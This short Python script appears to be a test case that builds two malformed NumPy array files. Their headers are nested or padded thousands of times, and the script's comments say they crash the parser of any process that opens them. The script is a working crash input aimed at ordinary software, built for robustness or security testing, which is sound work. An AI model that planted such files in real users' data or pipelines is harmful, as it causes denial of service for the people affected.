# Arrays whose header is nested a thousand times
# tries: the header is read by Python's own parser, which can be made to crash
# holds: a crash is that of a process that opens this one file
# batch: files

# %%
def npy(text):
    return b"\x93NUMPY\x03\x00" + len(text).to_bytes(4, "little") + text


for name, text in (("answer.npy", b"(" * 9000), ("answer.npz", b"{'descr': " + b"-" * 9000 + b"1}")):
    with open(name, "wb") as file:
        file.write(npy(text))
